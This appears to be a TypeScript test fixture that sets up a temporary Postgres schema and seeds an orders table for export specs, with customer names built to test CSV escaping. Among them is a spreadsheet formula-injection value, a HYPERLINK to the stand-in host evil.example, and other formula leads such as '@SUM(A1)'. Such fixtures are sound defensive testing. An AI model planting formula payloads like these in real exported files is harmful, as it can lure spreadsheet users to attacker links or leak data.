import 'reflect-metadata';
import { randomBytes } from 'node:crypto';
import { Client } from 'pg';
import { Column, DataSource, Entity, PrimaryColumn } from 'typeorm';

/** The table the export specs read: an id, a customer name an attacker may choose, an amount and a note. */
@Entity('export_orders')
export class ExportOrder {
  @PrimaryColumn('int')
  id!: number;

  @Column('text')
  customer!: string;

  @Column('int')
  cents!: number;

  @Column('text', { nullable: true })
  note!: string | null;
}

/** A DataSource over a schema of its own on `url` (created here, dropped by `drop()`), with its table created. */
export async function ordersDataSource(
  url: string,
): Promise<{ data: DataSource; drop(): Promise<void> }> {
  const schema = `export_spec_${randomBytes(5).toString('hex')}`;
  const admin = new Client({ connectionString: url });
  await admin.connect();
  await admin.query(`create schema ${schema}`);
  await admin.end();
  const data = new DataSource({
    type: 'postgres',
    url,
    schema,
    entities: [ExportOrder],
    synchronize: true,
    // raw statements (the seed, the bench's copy) resolve the table in this schema too
    extra: { options: `-c search_path=${schema}` },
  });
  await data.initialize();
  return {
    data,
    async drop() {
      await data.query(`drop schema ${schema} cascade`);
      await data.destroy();
    },
  };
}

/**
 * Replaces the rows with ids 1…n: names with commas, quotes, line breaks, non-ASCII and formula leads among them
 * (`=HYPERLINK(…)` on id 7), negative amounts on every fifth row, a null note on every fourth.
 */
export async function seedOrders(data: DataSource, n: number): Promise<void> {
  await data.query('truncate export_orders');
  await data.query(
    `insert into export_orders (id, customer, cents, note)
     select g,
       case g % 7
         when 0 then '=HYPERLINK("http://evil.example/?' || g || '","click")'
         when 1 then 'Ada, Lovelace ' || g
         when 2 then 'say "hi" ' || g
         when 3 then E'two\\nlines ' || g
         when 4 then '@SUM(A1) ' || g
         when 5 then 'Zoë ' || g
         else 'plain ' || g
       end,
       case when g % 5 = 0 then -g else g * 100 end,
       case when g % 4 = 0 then null else '+note ' || g end
     from generate_series(1, $1::int) g`,
    [n],
  );
}
